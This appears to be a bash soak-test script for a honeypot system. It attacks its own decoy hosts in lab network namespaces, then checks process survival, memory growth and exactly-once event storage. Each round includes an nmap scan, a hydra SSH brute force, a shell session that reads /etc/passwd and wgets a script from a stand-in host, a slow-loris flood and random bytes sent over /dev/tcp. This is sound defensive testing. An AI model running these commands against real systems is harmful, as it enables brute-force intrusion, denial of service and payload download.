#!/usr/bin/env bash
# Soak (issue 25): a fleet on a lab LAN under a mix of real tools for DURATION seconds (default 3600), with the
# ingester writing the store; then whether the engine and the ingester lived, whether their memory and open
# descriptors stayed flat, and whether every event the engine wrote is in the store exactly once.
#
#   sudo bench/soak.sh                      # an hour; a sample line every round, the verdict at the end
#   sudo DURATION=600 DECKIES=4 bench/soak.sh
#
# Each round, from the lab's attacker: an nmap SYN scan of one decky's first 1,024 ports, a hydra ssh brute force
# (16 passwords), an ssh shell session running commands, an ftp login and upload with curl, an http login form
# and a 64 KiB upload, redis-cli AUTH and a few commands, a mariadb login, an smbclient share listing, a
# slow-loris flood of FLOOD (default 2,000) connections held for 5 s, and hostile bytes (4 KiB of random data
# to each port). Samples: engine and ingester RSS (KiB) and open descriptors, after every round.
#
# The verdict:
#   - crashes: the engine's and the ingester's PIDs at the end are the ones at the start;
#   - flat: the RSS and descriptors of the last quarter of the run against the second quarter (after warm-up),
#     as the largest sample of each (a leak grows the last quarter's);
#   - exactly once: every uuid in the event log (all generations) is one row of the store, and the store holds
#     no uuid the log does not.
# Needs root (network namespaces). The state stays in $WORK when KEEP=1.
set -euo pipefail
cd "$(dirname "$0")/.."
DURATION=${DURATION:-3600}
DECKIES=${DECKIES:-6}
FLOOD=${FLOOD:-2000}
source bench/lib/lab-bench.sh
lab_bench_setup soak
export DECNET_DB_PATH=$WORK/decnet.db
NET=10.75.9
cc -O2 -pthread -o "$WORK/authload" bench/compare/authload.c -lssh -lcrypto
{
    echo "[general]"
    echo "net = $NET.0/24"
    for i in $(seq 0 $((DECKIES - 1))); do
        printf '\n[soak-d%s]\nip = %s.%s\nservices = ssh, http, ftp, redis, mysql, smb, telnet\n' "$i" "$NET" "$((10 + i))"
    done
} >"$WORK/fleet.ini"
"$BIN" deploy --config "$WORK/fleet.ini" --lab --lab-name soak >"$WORK/deploy.out" 2>&1 || {
    cat "$WORK/deploy.out" >&2
    exit 1
}
"$BIN" workers start >/dev/null
sleep 2
ENGINE=$(cat "$WORK/decnet-engine.pid")
WORKERS=$(pgrep -f "decnet workers" | head -1)
ATTACKER="ip netns exec decnet-soak-attacker"
rss() { awk '/VmRSS/ { print $2 }' "/proc/$1/status" 2>/dev/null || echo 0; }
fds() { find "/proc/$1/fd" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l; }

printf 'password\n123456\nadmin\nroot\ntoor\nqwerty\nletmein\nwelcome\nchangeme\nsecret\npass\n1234\ntest\nguest\nubuntu\ndebian\n' >"$WORK/passwords"
head -c 65536 /dev/urandom >"$WORK/upload.bin"

round() { # target ip
    local target=$1
    $ATTACKER nmap -n -Pn -sS -p 1-1024 -T4 "$target" >/dev/null 2>&1 || true
    $ATTACKER hydra -l root -P "$WORK/passwords" -t 4 -f "ssh://$target" >/dev/null 2>&1 || true
    $ATTACKER timeout 20 sshpass -p toor ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        "root@$target" 'uname -a; id; cat /etc/passwd; wget http://203.0.113.5/x.sh; ls -la /tmp' >/dev/null 2>&1 || true
    $ATTACKER timeout 20 curl -s -T "$WORK/upload.bin" --user anonymous:a@b "ftp://$target/upload.bin" >/dev/null 2>&1 || true
    $ATTACKER timeout 20 curl -s -d 'username=admin&password=hunter2' "http://$target/login" >/dev/null 2>&1 || true
    $ATTACKER timeout 20 curl -s --data-binary "@$WORK/upload.bin" "http://$target/upload" >/dev/null 2>&1 || true
    $ATTACKER timeout 20 redis-cli -h "$target" -a secret --no-auth-warning PING >/dev/null 2>&1 || true
    $ATTACKER timeout 20 redis-cli -h "$target" CONFIG GET dir >/dev/null 2>&1 || true
    $ATTACKER timeout 20 mariadb -h "$target" -u root -pwrong --skip-ssl -e 'select 1' >/dev/null 2>&1 || true
    $ATTACKER timeout 20 smbclient -L "//$target" -U 'guest%' >/dev/null 2>&1 || true
    HOLD=$FLOOD HOLD_SECONDS=5 $ATTACKER timeout 60 "$WORK/authload" "$target" 6379 20 1 redis >/dev/null 2>&1 || true
    for port in 21 22 23 80 445 3306 6379; do
        $ATTACKER timeout 5 bash -c "head -c 4096 /dev/urandom >/dev/tcp/$target/$port" 2>/dev/null || true
    done
}

echo "soak: $DECKIES deckies on $NET.0/24, $DURATION s; engine $ENGINE, ingester $WORKERS"
echo "round elapsed_s engine_rss_kib engine_fds ingester_rss_kib ingester_fds log_lines"
start=$(date +%s)
: >"$WORK/samples"
n=0
while [ $(($(date +%s) - start)) -lt "$DURATION" ]; do
    round "$NET.$((10 + n % DECKIES))"
    n=$((n + 1))
    line="$n $(($(date +%s) - start)) $(rss "$ENGINE") $(fds "$ENGINE") $(rss "$WORKERS") $(fds "$WORKERS")"
    line+=" $(cat "$DECNET_INGEST_LOG_FILE"* 2>/dev/null | wc -l)"
    echo "$line" | tee -a "$WORK/samples"
    if ! kill -0 "$ENGINE" 2>/dev/null || ! kill -0 "$WORKERS" 2>/dev/null; then
        echo "soak: a process exited in round $n; the engine's log ends:"
        grep -v '^$' "$WORK/decnet-engine.log" | tail -n 40
        break
    fi
done
sleep 10 # the last events reach the log and the store

alive() { kill -0 "$1" 2>/dev/null && echo yes || echo "NO (exited)"; }
echo
echo "engine alive: $(alive "$ENGINE"); ingester alive: $(alive "$WORKERS")"
awk -v n="$n" '
    { row[NR] = $0 }
    END {
        q = int(NR / 4); if (q < 1) q = 1
        for (i = 1; i <= NR; i++) {
            split(row[i], f, " ")
            if (i > q && i <= 2 * q) { for (k = 3; k <= 6; k++) if (f[k] > early[k]) early[k] = f[k] }
            if (i > NR - q) { for (k = 3; k <= 6; k++) if (f[k] > late[k]) late[k] = f[k] }
        }
        printf "largest in the second quarter / in the last quarter: engine RSS %d / %d KiB, engine fds %d / %d, ", early[3], late[3], early[4], late[4]
        printf "ingester RSS %d / %d KiB, ingester fds %d / %d\n", early[5], late[5], early[6], late[6]
    }' "$WORK/samples"
cat "$DECNET_INGEST_LOG_FILE"* | grep -o '\[decnet@32473 uuid="[^"]*"' | cut -d'"' -f2 | tr 'A-Z' 'a-z' | sort \
    >"$WORK/log-uuids"
sqlite3 "$DECNET_DB_PATH" 'SELECT uuid FROM logs' | tr 'A-Z' 'a-z' | sort >"$WORK/store-uuids"
logged=$(wc -l <"$WORK/log-uuids")
stored=$(wc -l <"$WORK/store-uuids")
duplicated_log=$(uniq -d "$WORK/log-uuids" | wc -l)
missing=$(comm -23 <(uniq "$WORK/log-uuids") "$WORK/store-uuids" | wc -l)
extra=$(comm -13 <(uniq "$WORK/log-uuids") "$WORK/store-uuids" | wc -l)
echo "events: $logged in the log ($duplicated_log uuids twice), $stored in the store; missing from the store $missing, in the store but not the log $extra"
"$BIN" workers stop >/dev/null 2>&1 || true
